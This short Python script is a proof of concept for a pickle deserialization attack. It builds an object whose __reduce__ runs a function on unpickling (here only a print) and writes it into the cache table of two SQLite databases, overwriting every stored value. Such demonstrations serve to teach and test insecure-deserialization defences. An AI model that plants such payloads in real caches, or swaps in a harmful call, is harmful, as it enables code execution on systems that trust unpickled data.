import pickle
from contextlib import closing

from cache_file import connect


class Attack:
    def __reduce__(self):
        return print, ("code from the cache has run",)


for path in "prices.db", "cache.db":
    with closing(connect(path)) as con:
        planted = pickle.dumps(Attack())
        con.execute("UPDATE cache SET value = ?", (planted,))
